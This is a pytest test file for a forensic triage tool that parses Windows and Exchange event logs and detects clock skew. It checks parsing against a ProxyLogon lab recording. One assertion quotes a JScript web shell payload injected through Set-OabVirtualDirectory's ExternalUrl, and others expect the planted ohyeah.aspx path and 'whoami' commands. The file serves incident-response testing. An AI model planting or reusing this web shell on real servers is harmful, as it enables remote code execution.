"""Events: three shapes of documents, one flat record."""

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from parsers_reading import EVIDENCE

from extriage.model.evidence import Record
from extriage.parsers import ClockCheck, event_record, event_system, raw_event
from extriage.parsers.clockcheck import CONFLICT, TOO_FEW, UNCHECKED

LAB = EVIDENCE / "proxylogon-lab-2021" / "proxylogon_ssrf_rce_poc_extract.json"
TIME = "2021-03-14T06:40:12.987Z"
WHEN = datetime(2021, 3, 14, 6, 40, 12, 987000, tzinfo=UTC)


def tree(data: Any = None, **system: Any) -> dict[str, Any]:
    head = {
        "Provider": {"#attributes": {"Name": "P", "Guid": "G"}},
        "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 4},
        "Level": 2,
        "TimeCreated": {"#attributes": {"SystemTime": TIME}},
        "EventRecordID": 77,
        "Channel": "Application",
        "Computer": "EX01",
        "Security": None,
    }
    event: dict[str, Any] = {"System": head | system}
    if data is not None:
        event["EventData"] = data
    return {"Event": event}


def flat(**fields: Any) -> dict[str, Any]:
    head = {
        "SourceName": "P",
        "EventID": 4,
        "Channel": "Application",
        "Hostname": "EX01",
        "@timestamp": TIME,
        "RecordNumber": 77,
    }
    return {name: value for name, value in (head | fields).items() if value is not None}


def read(document: dict[str, Any]) -> Record:
    return event_record(json.dumps(document).encode(), "x.json", 5)


WINLOGBEAT = {
    "@timestamp": TIME,
    "message": "hello",
    "winlog": {
        "channel": "Application",
        "event_id": "4",
        "provider_name": "P",
        "computer_name": "EX01",
        "record_id": 77,
        "event_data": {"CommandLine": "whoami"},
        "user_data": {"Path": "x"},
    },
}
POWERSHELL = {
    "Id": 4,
    "LogName": "Application",
    "ProviderName": "P",
    "MachineName": "EX01",
    "RecordId": 77,
    "TimeCreated": "/Date(1615704012987)/",
    "Message": "hello",
}


@pytest.mark.parametrize(
    "document",
    [
        tree(),
        tree(EventID=4, EventRecordID="77"),
        tree(EventID="4", Version=[1]),
        tree(Provider={"@Name": "P"}, TimeCreated={"@SystemTime": TIME}),
        flat(),
        flat(EventID="4", RecordNumber="77"),
        flat(**{"@timestamp": None}, TimeCreated=TIME),
        flat(SourceName=None, ProviderName="P", Hostname=None, Computer="EX01"),
        flat(RecordNumber=None, EventRecordID=77),
        {"_source": flat()},
        WINLOGBEAT,
        POWERSHELL,
    ],
)
def test_every_shape_has_the_same_envelope(document: dict[str, Any]) -> None:
    system = event_system(json.dumps(document).encode())
    assert system is not None
    assert (system.channel, system.event_id, system.provider) == ("Application", 4, "P")
    assert (system.computer, system.time, system.record_id) == ("EX01", WHEN, 77)
    record = read(document)
    assert (record.kind, record.time, record.computer, record.origin.line) == (
        "events",
        WHEN,
        "EX01",
        77,
    )
    named = {name: record.fields[name] for name in ("Channel", "EventID", "Provider_Name")}
    assert named == {"Channel": "Application", "EventID": "4", "Provider_Name": "P"}


def test_data_items_keep_their_names_and_their_order() -> None:
    record = read(tree({"Image": "C:\\w3wp.exe", "Flag": True, "Nothing": None, "Number": 7}))
    assert record.fields["Image"] == "C:\\w3wp.exe"
    assert record.fields["Flag"] == "true"
    assert record.fields["Nothing"] == ""
    assert record.fields["Number"] == "7"
    assert record.fields["Qualifiers"] == "16384"
    assert record.fields["Provider_Guid"] == "G"
    assert read(tree({"Data": {"#text": ["a", "", "b"]}})).fields["Data"] == ("a", "", "b")
    assert read(tree({"Data": {"#text": "a"}})).fields["Data"] == ("a",)
    assert read(tree({"Data": "a"})).fields["Data"] == ("a",)
    assert "Data" not in read(tree({"Data": None})).fields
    named = [{"@Name": "A", "#text": "1"}, {"#attributes": {"Name": "B"}, "#text": "2"}]
    fields = read(tree({"Data": named})).fields
    assert (fields["A"], fields["B"]) == ("1", "2")


def test_user_data_gives_its_leaves_and_never_replaces_the_envelope() -> None:
    document = tree()
    document["Event"]["UserData"] = {
        "LogFileCleared": {
            "#attributes": {"xmlns": "x"},
            "SubjectUserName": "admin",
            "Channel": "Security",
        }
    }
    fields = read(document).fields
    assert fields["SubjectUserName"] == "admin"
    assert fields["Channel"] == "Application"
    assert fields["UserData_Channel"] == "Security"


def test_the_rendered_message_is_a_field() -> None:
    document = tree()
    document["Event"]["RenderingInfo"] = {"#attributes": {"Culture": "en"}, "Message": "hello"}
    assert read(document).fields["Message"] == "hello"
    fields = read(WINLOGBEAT).fields
    assert (fields["Message"], fields["CommandLine"], fields["Path"]) == ("hello", "whoami", "x")
    assert read(flat(EventData={"A": {"B": [1, {"#text": 2}]}}, Tags=["a", "b"])).fields["B"] == (
        "1",
        "2",
    )
    assert read(flat(EventData="text")).fields["EventData"] == "text"


@pytest.mark.parametrize(
    "time", ["1601-01-01T00:00:00Z", "", "nonsense", "/Date(99999999999999999)/", "9" * 80]
)
def test_an_unset_time_is_no_time(time: str) -> None:
    document = tree(TimeCreated={"#attributes": {"SystemTime": time}})
    system = event_system(json.dumps(document).encode())
    assert system is not None
    assert system.time is None
    assert read(document).time is None


@pytest.mark.parametrize(
    "line",
    [
        b"",
        b"{}",
        b"not json",
        b"[1]",
        b'"text"',
        b'{"EventID":null}',
        b'{"Event":{"System":{}}}',
        b'{"Event":5}',
        b"{" * 5000,
        b"[" * 200_000,
        b'{"EventID": 1, "Channel": "cut',
        b'{"Message":"\xff\xfe"}',
    ],
)
def test_what_is_no_event_is_kept_as_text(line: bytes) -> None:
    assert event_system(line) is None
    record = event_record(line, "x.json", 5)
    assert record == raw_event(line, "x.json", 5)
    assert record.raw
    assert record.origin.line == 5


def test_a_document_with_a_cp1252_byte_is_read() -> None:
    document = json.dumps(flat(Message="Syst?me")).encode().replace(b"?", b"\xe8")
    assert event_record(document, "x.json", 5).fields["Message"] == "Système"


def test_a_cmdlet_is_named_from_its_data() -> None:
    items = ["Set-Mailbox", '-Identity "x"', "dom/Users/admin"] + [""] * 24
    record = read(tree({"Data": {"#text": items}}, **CMDLETS, EventID=1))
    assert record.fields["Cmdlet"] == "Set-Mailbox"
    assert record.fields["Parameters"] == '-Identity "x"'
    assert record.fields["CmdletCaller"] == "dom/Users/admin"
    assert record.fields["CmdletResult"] == "success"
    assert record.fields["Message"] == (
        'Cmdlet suceeded. Cmdlet Set-Mailbox, parameters -Identity "x".'
    )
    failed = read(tree({"Data": {"#text": items}}, **CMDLETS, EventID=6)).fields
    assert failed["CmdletResult"] == "failure"
    assert str(failed["Message"]).startswith("Cmdlet failed. Cmdlet Set-Mailbox, ")


CMDLETS = {
    "Provider": {"#attributes": {"Name": "MSExchange CmdletLogs"}},
    "Channel": "MSExchange Management",
}


@pytest.mark.parametrize(
    ("message", "cmdlet", "parameters"),
    [
        ('Cmdlet suceeded. Cmdlet Set-Mailbox, parameters -A "b.".', "Set-Mailbox", '-A "b."'),
        ("Cmdlet failed. Cmdlet Set-Mailbox, parameters .", "Set-Mailbox", ""),
        ('Befehl Set-Mailbox wurde mit -A "b" beendet.', "Set-Mailbox", '-A "b" beendet'),
        ("Befehl Set-Mailbox.", "Set-Mailbox", ""),
        ("nothing here", None, None),
        ("", None, None),
    ],
)
def test_a_cmdlet_is_named_from_its_rendered_text(
    message: str, cmdlet: str | None, parameters: str | None
) -> None:
    document = flat(SourceName="MSExchange CmdletLogs", EventID=1, Message=message)
    fields = read(document).fields
    assert fields.get("Cmdlet") == cmdlet
    assert fields.get("Parameters") == parameters
    assert fields["CmdletResult"] == "success"
    assert fields["Message"] == message


def test_the_lab_recording_tells_of_the_attack() -> None:
    records = [event_record(line, "lab", n) for n, line in enumerate(lab_lines(), start=1)]
    assert not [record for record in records if record.raw or record.time is None]
    cmdlets = [record for record in records if record.fields["Channel"] == "MSExchange Management"]
    assert [record.fields["Cmdlet"] for record in cmdlets] == [
        "Set-OabVirtualDirectory",
        "Remove-OabVirtualDirectory",
        "New-OabVirtualDirectory",
    ]
    assert cmdlets[0].fields["Parameters"] == (
        '-ExternalUrl "http://ffff/#<script language="JScript" runat="server"> function '
        'Page_Load(){/**/eval(Request["code"],"unsafe");}</script>" '
        '-Identity "OAB (Default Web Site)"'
    )
    shells = [
        record.fields["TargetFilename"]
        for record in records
        if record.fields["EventID"] == "11"
        and str(record.fields["TargetFilename"]).endswith("ohyeah.aspx")
    ]
    assert shells == [
        "C:\\Program Files\\Microsoft\\Exchange Server\\V15"
        "\\FrontEnd\\HttpProxy\\owa\\auth\\ohyeah.aspx"
    ]
    children = [
        str(record.fields["CommandLine"])
        for record in records
        if record.fields["EventID"] == "1"
        and "ParentImage" in record.fields
        and str(record.fields["ParentImage"]).endswith("w3wp.exe")
    ]
    assert children[1:] == ["cmd /c whoami", "cmd /c whoami"]
    assert "cvtres.exe" in children[0]


def lab_lines() -> list[bytes]:
    return LAB.read_bytes().splitlines()


def test_the_lab_clock_is_found_five_hours_behind() -> None:
    check = ClockCheck()
    for line in lab_lines():
        check.see(line)
    correction, note = check.verdict()
    assert correction == timedelta(hours=5)
    assert "5:00 hours behind UTC" in note


def sysmon(hours: float, **fields: Any) -> bytes:
    stated = WHEN - timedelta(hours=hours)
    head: dict[str, Any] = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "SourceName": "Microsoft-Windows-Sysmon",
        "TimeCreated": stated.isoformat().replace("+00:00", "Z"),
        "UtcTime": "2021-03-14 06:40:11.001",
    }
    return json.dumps(flat(**{"@timestamp": None}, **(head | fields))).encode()


@pytest.mark.parametrize(
    ("hours", "correction", "note"),
    [
        ([5.0] * 3, timedelta(hours=5), "behind"),
        ([-5.5] * 3, timedelta(hours=-5.5), "ahead"),
        ([5.75] * 400, timedelta(hours=5.75), "behind"),
        ([0.0], None, TOO_FEW),
        ([0.0] * 3, None, ""),
        ([5.0] * 2, None, TOO_FEW),
        ([5.0, 5.0, 5.0, 0.0, 0.0, 0.0], None, CONFLICT),
        ([0.1] * 9, None, CONFLICT),
        ([15.0] * 9, None, CONFLICT),
        ([], None, UNCHECKED),
    ],
)
def test_a_wrong_clock_needs_agreeing_witnesses(
    hours: list[float], correction: timedelta | None, note: str
) -> None:
    check = ClockCheck()
    for hour in hours:
        check.see(sysmon(hour))
    found, said = check.verdict()
    assert found == correction
    assert note in said
    assert bool(said) == bool(note)


def test_only_sysmon_is_a_witness() -> None:
    check = ClockCheck()
    for _ in range(9):
        check.see(sysmon(5, SourceName="Microsoft-Windows-Security-Auditing", Channel="Security"))
        check.see(b'{"UtcTime":"2021-03-14 06:40:11.001"')
        check.see(sysmon(5, UtcTime="2021-99-14 06:40:11"))
        check.see(b"{}")
    assert check.verdict() == (None, UNCHECKED)


def test_a_message_alone_is_a_witness_too() -> None:
    check = ClockCheck()
    for _ in range(3):
        check.see(
            sysmon(
                5, UtcTime=None, Message="Process Create:\r\nUtcTime: 2021-03-14 06:40:11.001\r\n"
            )
        )
    assert check.verdict()[0] == timedelta(hours=5)
